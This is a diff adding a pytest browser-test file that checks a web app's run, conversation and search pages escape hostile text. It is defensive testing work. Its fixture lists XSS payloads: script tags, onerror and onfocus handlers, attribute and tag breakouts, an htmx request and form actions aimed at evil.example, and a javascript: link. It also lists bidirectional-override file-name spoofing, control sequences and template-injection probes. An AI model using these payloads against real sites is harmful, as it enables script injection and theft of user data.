@@ -1,0 +1,97 @@
+"""Everything that agents, users and tools have said is hostile: it is shown as text, stays in its box, and runs nowhere."""
+
+import httpx
+import pytest
+from tests.server.pages.scene import add_talk
+
+pytestmark = pytest.mark.xdist_group("browser")
+
+TEXTS = {
+    "a script": "<script>window.hacked = 1</script>",
+    "an image": '<img src="x" onerror="window.hacked = 2">',
+    "out of an attribute": '"\' onmouseover=window.hacked=3 autofocus onfocus=window.hacked=4 x="',
+    "out of a title": "</title></textarea></style></pre><svg onload=window.hacked=5>",
+    "for htmx": '<div hx-get="https://evil.example/" hx-trigger="load"></div><hx-partial hx-target="body">x</hx-partial>',
+    "a link": "javascript:window.hacked=6 https://evil.example/?steal",
+    "a form": '<form action="https://evil.example"><button formaction="https://evil.example">Go on</button></form>',
+    "bidirectional marks": "abc \u202e evil \u2066 gpj.exe \u200f \u061c",
+    "control characters": "a\x1b[31m\x07\x08\x7f\x9b b",
+    "one very long word": "x" * 5000,
+    "very many lines": "line\n" * 3000,
+    "combining marks": "Z" + "\u0310\u0352\u0301" * 300,
+    "a lone surrogate as text": "\\ud800 {{7*7}} ${7*7} %s %00",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile(shop):
+    """A run for each text, in its inputs, its outputs and its message; a talk, and a question in a search."""
+    return {name: shop.run("hostile", text=text) for name, text in TEXTS.items()}
+
+
+def test_nothing_runs_and_nothing_leaves_its_box(shop, hostile, tab):
+    """Run pages and lists with hostile text in every place."""
+    view = tab(viewport={"width": 360, "height": 640})
+    talk = add_talk(shop, TEXTS["an image"] + TEXTS["a script"] + TEXTS["for htmx"])
+    paths = [f"runs/{run}" for run in hostile.values()]
+    for path in [
+        *paths,
+        "",
+        "runs",
+        "runs?text=%3Cscript%3E",
+        f"conversations/{talk}",
+        "search?text=%3Cimg%20onerror%3E",
+    ]:
+        page = view.open(path)
+        assert page.evaluate("window.hacked") is None, path
+        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+        assert wide == 0, f"{path} is {wide} px too wide"
+        strange = "#content :is(script, img, iframe, object, embed, style, [onerror], [onload], [onfocus], [hx-get])"
+        assert page.locator(strange).count() == 0, path
+        assert page.locator('#content a[href^="http"], #content a[href^="javascript"]').count() == 0, path
+    assert not [address for address in view.requests if not address.startswith(shop.url)]
+
+
+def test_marks_that_turn_text_around_are_written_out(shop, hostile):
+    """A reader sees that they are there, and they turn nothing around."""
+    with httpx.Client(base_url=shop.url, trust_env=False, timeout=60) as client:
+        text = client.get(f"/runs/{hostile['bidirectional marks']}").text
+        assert "\u202e" not in text
+        assert "\\u202e" in text
+        text = client.get(f"/runs/{hostile['control characters']}").text
+        assert "\x1b" not in text
+        assert "\\x1b" in text
+
+
+def test_megabytes_are_cut_and_said_to_be(shop):
+    """A line of ten megabytes does not make a page of ten megabytes."""
+    run = shop.run("hostile", text="y" * 9_000_000)
+    with httpx.Client(base_url=shop.url, trust_env=False, timeout=60) as client:
+        page = client.get(f"/runs/{run}")
+        assert len(page.text) < 300_000
+        assert "(9,000,012 characters)" in page.text
+        assert len(client.get("/").text) < 300_000
+
+
+def test_strange_ids_and_words_in_addresses_are_answered_with_words(shop):
+    """Whatever stands in an address, a page says what is wrong with it."""
+    with httpx.Client(base_url=shop.url, trust_env=False, timeout=60) as client:
+        for path, status in (
+            ("/runs/%3Cscript%3E", 404),
+            ("/runs/a%2Fb", 404),
+            ("/runs?state=nonsense", 400),
+            ("/runs?before=nonsense", 400),
+            ("/runs?since=nonsense", 400),
+            (f"/runs?text={'x' * 500}", 400),
+            ("/runs/x?after=-1", 404),
+            ("/sessions/none", 404),
+            ("/promises/none", 404),
+            ("/jobs/none", 404),
+            ("/conversations/none", 404),
+            ("/nothing", 404),
+            ("/live?on=nonsense", 400),
+        ):
+            page = client.get(path)
+            assert page.status_code == status, (path, page.status_code)
+            assert 'role="alert"' in page.text, path
+            assert "<script>" not in page.text, path
